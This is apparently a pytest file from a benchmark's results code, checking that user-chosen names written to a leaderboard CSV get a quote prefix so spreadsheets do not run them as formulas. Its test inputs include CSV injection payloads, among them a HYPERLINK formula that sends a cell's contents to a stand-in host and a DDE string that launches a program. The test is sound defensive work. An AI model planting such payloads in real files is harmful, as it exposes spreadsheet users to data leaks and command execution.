"""Names that users choose, in every CSV file that a spreadsheet may open."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from vdmini_bench.results.leaderboard import add_rows
from vdmini_bench.results.score import Score, row_of
from vdmini_bench.system.tables import csv_lines

FORMULA = '=HYPERLINK("http://x/?"&A1)'


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("name", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
def test_no_name_is_a_formula(tmp_path: Path, name: str) -> None:
    path = tmp_path / "leaderboard.csv"
    score = Score(name, "fvd", "1", "p", -1.5, "", "lower", None, 1, 1, "ok")
    add_rows(path, [row_of(score, {"recipe": name})])
    (row,) = rows_of(path)
    for cell in (row["model"], row["recipe"]):
        assert cell.startswith("'")
        assert cell.endswith(name.strip())
    # Numbers stay numbers.
    assert row["value"] == "-1.5"
    assert csv_lines([["model"], [name]]).splitlines()[1].lstrip('"').startswith("'")
